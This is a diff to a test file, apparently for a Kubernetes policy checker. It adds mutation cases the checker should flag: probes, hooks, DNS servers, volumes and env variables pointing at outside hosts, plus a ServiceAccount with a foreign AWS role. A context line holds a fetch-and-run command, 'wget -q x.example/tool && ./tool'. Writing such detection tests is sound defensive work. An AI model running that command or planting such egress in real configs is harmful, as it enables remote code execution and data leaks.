@@ -118,6 +118,63 @@ MUTATIONS = (
         told(command=["sh", "-c", "wget -q x.example/tool && ./tool"]),
     ),
     opens(
+        "a probe that asks a host outside",
+        "CN-200",
+        told(livenessProbe={"httpGet": {"host": "probe.example", "port": 443}}),
+    ),
+    opens(
+        "a hook that tells a host outside",
+        "CN-200",
+        told(lifecycle={"postStart": {"httpGet": {"host": "8.8.8.8", "port": 80}}}),
+    ),
+    opens(
+        "a pod with a name server outside",
+        "CN-200",
+        pod(dnsPolicy="None", dnsConfig={"nameservers": ["8.8.8.8"]}),
+    ),
+    opens(
+        "a pod with an address outside under a name of its own",
+        "CN-200",
+        pod(hostAliases=[{"ip": "8.8.8.8", "hostnames": ["db.internal"]}]),
+    ),
+    opens(
+        "a pod with a volume outside",
+        "CN-200",
+        pod(volumes=[{"name": "v", "nfs": {"server": "nfs.example", "path": "/"}}]),
+    ),
+    opens(
+        "a volume on a target outside",
+        "CN-200",
+        an_object(
+            "kubernetes:core/v1:PersistentVolume",
+            spec={"iscsi": {"targetPortal": "8.8.8.8:3260", "iqn": "iqn.2026-11.example:v"}},
+        ),
+    ),
+    opens(
+        "volumes of a class whose server is outside",
+        "CN-200",
+        an_object(
+            "kubernetes:storage.k8s.io/v1:StorageClass",
+            provisioner="nfs.csi.k8s.io",
+            parameters={"server": "nfs.example", "share": "/"},
+        ),
+    ),
+    opens(
+        "a pod that is told of a host outside with its port",
+        "CN-200",
+        told(env=[variable("BROKER", "broker.example.com:9092")]),
+    ),
+    opens(
+        "a ServiceAccount with a foreign role",
+        "CN-074",
+        an_object(
+            "kubernetes:core/v1:ServiceAccount",
+            metadata={
+                "annotations": {"eks.amazonaws.com/role-arn": f"arn:aws:iam::{FOREIGN}:role/app"}
+            },
+        ),
+    ),
+    opens(
         "an Ingress that asks an issuer outside",
         "CN-200",
         an_object(
